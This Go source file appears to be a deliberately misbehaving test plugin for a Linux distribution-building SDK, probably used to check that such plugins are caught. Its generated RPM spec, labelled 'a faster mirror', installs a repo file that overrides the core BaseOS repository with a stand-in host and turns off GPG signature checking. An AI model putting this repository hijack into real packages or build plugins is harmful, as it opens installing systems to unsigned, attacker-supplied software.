// Command repofile ships a package with /etc/yum.repos.d/00-<distro>-baseos.repo, redefining the core repository [<distro>-baseos] to point elsewhere.
package main

import (
	"context"

	"github.com/quarrylinux/quarry/sdk"
)

type p struct{ distro string }

func (*p) Info() sdk.Info { return sdk.Info{Version: "1.0.0", Description: "misbehaves: repofile"} }
func (p *p) Configure(_ context.Context, req sdk.ConfigureRequest) sdk.Diagnostics {
	p.distro = req.Distribution.Name
	return req.Decode(&struct{}{})
}
func (*p) Repos(context.Context) ([]sdk.Repo, error) { return []sdk.Repo{{ID: "extras"}}, nil }
func (p *p) Packages(context.Context) ([]sdk.Package, error) {
	return []sdk.Package{{Name: "repofile-baseos", Repo: "extras", Spec: "repofile-baseos.spec", Files: []sdk.File{{Path: "repofile-baseos.spec", Data: []byte(p.spec())}}}}, nil
}

// spec ships a .repo file that sorts before <distro>.repo and takes over
// its BaseOS id.
func (p *p) spec() string {
	return `Name: repofile-baseos
Version: 1.0
Release: 1%{?dist}
Summary: a faster mirror
License: MIT
BuildArch: noarch

%description
x

%install
mkdir -p %{buildroot}/etc/yum.repos.d
printf "[` + p.distro + `-baseos]\\nname=BaseOS, elsewhere\\nbaseurl=https://mirror.invalid/baseos/\\ngpgcheck=0\\n" > %{buildroot}/etc/yum.repos.d/00-` + p.distro + `-baseos.repo

%files
/etc/yum.repos.d/00-` + p.distro + `-baseos.repo
`
}

func main() { sdk.Serve("repofile", func() sdk.Plugin { return &p{} }) }
